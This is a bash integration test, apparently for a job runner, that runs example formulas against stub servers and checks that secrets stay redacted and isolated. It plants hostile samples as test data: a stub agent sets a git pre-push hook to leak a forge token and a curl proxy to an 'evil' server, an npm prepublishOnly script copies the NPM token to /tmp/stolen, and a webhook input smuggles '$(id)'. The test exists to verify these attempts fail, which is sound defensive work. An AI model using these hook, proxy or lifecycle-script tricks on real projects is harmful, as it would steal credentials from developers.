#!/bin/bash
# Every example formula of templates/formulas, run: as it is but for the names of hosts, against stand-ins for what it talks to.
. "$(dirname "$0")/lib.sh"

engine_start
debian_image || exit 0
debian_image node || exit 0
# Agents are not part of the image without a build argument: a stub does what its prompt says.
mkdir "$WORK/context" "$WORK/servers" 2>/dev/null
cat >"$WORK/context/claude" <<-'EOT'
	#!/bin/sh
	set -eu
	printf '%s' "$2" >/tmp/told
	cd repo
	# What an agent that was led astray would leave behind for those who come after it and have a token.
	git config core.hooksPath /task/evil
	git config --global core.hooksPath /task/evil
	mkdir -p /task/evil
	printf '#!/bin/sh\necho "a hook ran with ${FORGE_TOKEN:-nothing}" >&2\nexit 1\n' >/task/evil/pre-push
	chmod +x /task/evil/pre-push
	echo 'proxy = http://10.99.0.2:8084' >/task/.curlrc
	git config user.name Agent
	git config user.email agent@example
	echo "task: $(sed -n 's/.*"prompt": "\(.*\)".*/\1/p' /tmp/told)" >>notes
	git commit -qam 'notes: what was asked for'
	echo '{"type": "result", "subtype": "success", "num_turns": 1, "duration_ms": 5, "total_cost_usd": 0.25}'
EOT
chmod 0755 "$WORK/context/claude"
printf 'FROM disinto/runner-debian\nCOPY claude /usr/local/bin/claude\n' >"$WORK/context/Dockerfile"
tar -C "$WORK/context" -c . | engine -X POST -H 'Content-Type: application/x-tar' --data-binary @- '/build?t=disinto/runner-stub' >"$WORK/build"
check "an image with the stub can be made" grep -q 'Successfully built' "$WORK/build"

# Who is where: each name is an address of its own.
FORGE=10.99.0.1 STUBS=10.99.0.2 ONE=10.99.0.3 TWO=10.99.0.4 PUBLIC=10.99.0.5
for address in $FORGE $STUBS $ONE $TWO $PUBLIC; do host_address "$address"; done
at() { # FORGE-ADDRESS: the formula with addresses for names
	sed -e "s#https://forge.example/api#http://$FORGE:3000/api#g" -e "s#https://\\(hooks\\|service\\).example#http://\\1.example#g" \
		-e "s#http://hooks.example#http://$STUBS:8081#g" -e "s#http://service.example#http://$STUBS:8082#g" \
		-e "s#https://registry.npmjs.org#http://$STUBS:8083#g" -e "s#//registry.npmjs.org#//$STUBS:8083#g" \
		-e "s#mirror-one.example#$ONE#g" -e "s#mirror-two.example#$TWO#g" -e "s#forge.example#$1#g" -e 's#https://#http://#g' \
		-e 's#docker.io/library/node:22-bookworm#disinto/runner-node#'
}

site path <<<''
sed -i 's#^runner_image: .*#runner_image: disinto/runner-stub#' "$CONFIG"
for template in "$ROOT"/templates/formulas/*.yaml; do
	name=$(basename "$template" .yaml)
	address=$FORGE
	[ "$name" != publish-npm ] || address=$PUBLIC
	at $address <"$template" >"$OPS/vault/formulas/$name.yaml"
done
refute "no name of an example is left" grep -hE '^[^#]*\.(example|org)/' "$OPS"/vault/formulas/*.yaml

secret_value() { # NAME: stores a new value, prints it
	local value
	value=$1-value-$RANDOM$RANDOM$RANDOM
	secret "$1" "$value"
	echo "$value"
}
declare -A value
for name in GREETING WEBHOOK_TOKEN NPM_TOKEN MIRROR_ONE_TOKEN MIRROR_TWO_TOKEN FORGE_TOKEN ANTHROPIC_API_KEY OPS_TOKEN SERVICE_ADMIN_TOKEN; do
	value[$name]=$(secret_value $name)
done
value[OPS_TOKEN]=${value[FORGE_TOKEN]} && secret OPS_TOKEN "${value[FORGE_TOKEN]}" # the same forge

repository() { # PATH: bare, with one commit
	git init -q --bare "$1"
	git clone -q "$1" "$WORK/clone" 2>/dev/null
	(cd "$WORK/clone" && "${@:2}" && git add -A && git commit -qm first && git push -q origin HEAD:main)
	rm -rf "$WORK/clone"
}
some_notes() { echo first >notes; }
some_package() {
	printf '{"name": "disinto-example", "version": "1.2.3", "scripts": {"prepublishOnly": "echo $NPM_TOKEN >/tmp/stolen"}}' >package.json
	echo 'module.exports = 42' >index.js
}
repository "$WORK/forge/org/project.git" some_notes
repository "$WORK/one/org/project.git" some_notes
git clone -q --bare "$WORK/one/org/project.git" "$WORK/two/org/project.git"
repository "$WORK/public/org/package.git" some_package
git -C "$WORK/public/org/package.git" tag v1.2.3 main
ln -s "$SERVER" "$WORK/forge/org/ops.git"
git_server() { # NAME ADDRESS [TOKEN]
	in_engine env BIND="$2" PORT=80 "$LIB/git-server.sh" start http "$WORK/servers/$1" "$WORK/$1" ${3:+"$3"} >/dev/null || bail "no git server $1"
}
git_server forge $FORGE "${value[FORGE_TOKEN]}"
git_server one $ONE "${value[MIRROR_ONE_TOKEN]}"
git_server two $TWO "${value[MIRROR_TWO_TOKEN]}"
git_server public $PUBLIC

mkdir "$WORK/hooks" "$WORK/service" "$WORK/npm" "$WORK/evil"
echo '200 OK' | tee "$WORK/hooks/status" "$WORK/evil/status" >"$WORK/service/status"
echo '{}' | tee "$WORK/evil/body" >"$WORK/hooks/body"
NEW=new-token-$RANDOM$RANDOM
echo "{\"token\": \"$NEW\"}" >"$WORK/service/body"
echo "${value[NPM_TOKEN]}" >"$WORK/npm/token"
serve_engine busybox nc -ll -p 8081 -e "$LIB/http-stub.sh" "$WORK/hooks"
serve_engine busybox nc -ll -p 8082 -e "$LIB/http-stub.sh" "$WORK/service"
serve_engine busybox nc -ll -p 8083 -e "$LIB/npm-registry.sh" "$WORK/npm"
serve_engine busybox nc -ll -p 8084 -e "$LIB/http-stub.sh" "$WORK/evil"
echo "${value[FORGE_TOKEN]} agent" >"$WORK/forge.users"
serve_engine "$ROOT/${SAN:-build/gcc/san}/forge_server" "$WORK/forge/org/project.git" org/project "$WORK/forge.users" "$WORK/forge.url" "$WORK/violation"
wait_for test -s "$WORK/forge.url" || bail "no forge"
serve_engine busybox nc -ll -p 3000 -e nc 127.0.0.1 "$(sed 's/.*://' "$WORK/forge.url")"

run_all() { # ID FORMULA SECRETS INPUTS: an action for each line of standard input
	while read -r id formula secrets inputs; do
		action "$id" "$formula" "$(jq -n --arg secrets "$secrets" --argjson inputs "$inputs" \
			'{secrets: ($secrets | split(",") | map(select(. != "-"))), inputs: $inputs}')"
	done
}
commit=$(git -C "$WORK/one/org/project.git" rev-parse main)
run_all <<EOT
hello hello GREETING {"name":"you"}
checksum checksum - {"text":"abc"}
webhook webhook-call WEBHOOK_TOKEN {"event":"deploy","text":"it's \\"done\\"\\n\$(id)"}
npm publish-npm NPM_TOKEN {"version":"1.2.3"}
npm-other publish-npm NPM_TOKEN {"version":"1.2.4"}
release release MIRROR_ONE_TOKEN,MIRROR_TWO_TOKEN {"version":"2.0","commit":"$commit"}
loop full-loop FORGE_TOKEN,ANTHROPIC_API_KEY {"repo":"org/project","branch":"main","prompt":"Write it down."}
rotate rotate-secret OPS_TOKEN,SERVICE_ADMIN_TOKEN {}
EOT
land
dispatcher_start
succeeds() { # ID
	finished "$1"
	is "$1 succeeds" "$(field "$1" '[.outcome, .exit_code, .reason] | @json')" '["succeeded",0,null]'
	[ "$(field "$1" .outcome)" = succeeded ] || sed 's/^/# /' "$SPOOL/runs/$1/log"
}

succeeds hello
like "hello: greets" "$(run_log hello)" '^Hello, you\.$'
like "hello: its secret is redacted" "$(run_log hello)" 'it reads: \[redacted:GREETING\]$'

succeeds checksum
like "checksum: of what was given" "$(run_log checksum)" '^ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  text$'

succeeds webhook
like "webhook-call: one POST" "$(head -n 1 "$WORK/hooks/head-1")" '^POST /notify HTTP/1\.1$'
is "webhook-call: and no other" "$(cat "$WORK/hooks/number")" 1
like "webhook-call: with the token" "$(cat "$WORK/hooks/head-1")" "^Authorization: Bearer ${value[WEBHOOK_TOKEN]}\$"
is "webhook-call: inputs are data" "$(jq -c . "$WORK/hooks/request-1")" '{"action":"webhook","event":"deploy","text":"it'"'"'s \"done\"\n$(id)"}'

succeeds npm
like "publish-npm: the registry took it" "$(cat "$WORK/npm/requests")" '^ok PUT /disinto-example 1\.2\.3$'
is "publish-npm: it took nothing else" "$(wc -l <"$WORK/npm/requests")" 1
is "publish-npm: what was published" "$(tar -xzOf "$WORK/npm/disinto-example-1.2.3.tgz" package/index.js)" 'module.exports = 42'
refute "publish-npm: the token is not in it" grep -qF "${value[NPM_TOKEN]}" <(tar -xzOf "$WORK/npm/disinto-example-1.2.3.tgz")
is "publish-npm: the version is an output" "$(field npm .outputs.published)" 1.2.3
finished npm-other
is "publish-npm: a version that has no tag is none" "$(field npm-other '[.outcome, (.steps | length)] | @json')" '["failed",1]'

succeeds release
for mirror in one two; do
	is "release: the tag is on mirror $mirror" "$(git -C "$WORK/$mirror/org/project.git" rev-parse 'v2.0^{commit}' 2>/dev/null)" "$commit"
	is "release: and is annotated" "$(git -C "$WORK/$mirror/org/project.git" cat-file -t v2.0 2>/dev/null)" tag
done
is "release: the tag is an output" "$(field release .outputs.tag)" v2.0

succeeds loop
branch=disinto/loop
is "full-loop: the agent's work is on a branch" "$(git -C "$WORK/forge/org/project.git" show $branch:notes | tr '\n' ' ')" 'first task: Write it down. '
pull=$(in_engine curl -sS -H "Authorization: token ${value[FORGE_TOKEN]}" "$(cat "$WORK/forge.url")/api/v1/repos/org/project/pulls/1")
is "full-loop: there is a pull request" "$(jq -r '[.title, .head.ref, .base.ref] | @tsv' <<<"$pull")" "notes: what was asked for	$branch	main"
like "full-loop: its address is an output" "$(field loop .outputs.pull_request)" '/pulls/1$'
is "full-loop: the forge was asked as its API is described" "$(cat "$WORK/violation" 2>/dev/null)" ''
is "full-loop: the cost is in the result" "$(field loop '.steps[] | select(.id == "work") | .cost_usd')" 0.25
refute "full-loop: no hook of the agent ran where the token was" grep -q 'a hook ran' "$SPOOL/runs/loop/log"
is "full-loop: nor did the token go where the agent's settings for curl send it" "$(find "$WORK/evil" -name 'head-*' -exec cat {} +)" ''

succeeds rotate
proposal=vault/rotate
is "rotate-secret: the new value is proposed, encrypted" \
	"$(git -C "$SERVER" show $proposal:vault/secrets/DEPLOY_TOKEN.age | age -d -i "$WORK/site/identity.age")" "$NEW"
is "rotate-secret: and nothing else" "$(git -C "$SERVER" diff --name-only "main...$proposal")" vault/secrets/DEPLOY_TOKEN.age
refute "rotate-secret: nothing landed by itself" git -C "$SERVER" cat-file -e main:vault/secrets/DEPLOY_TOKEN.age 2>/dev/null
refute "rotate-secret: the new value is in no log" grep -rqF "$NEW" "$SPOOL/runs"

for name in "${!value[@]}"; do
	refute "no log holds $name" grep -rqF -- "${value[$name]}" "$SPOOL/runs"
done
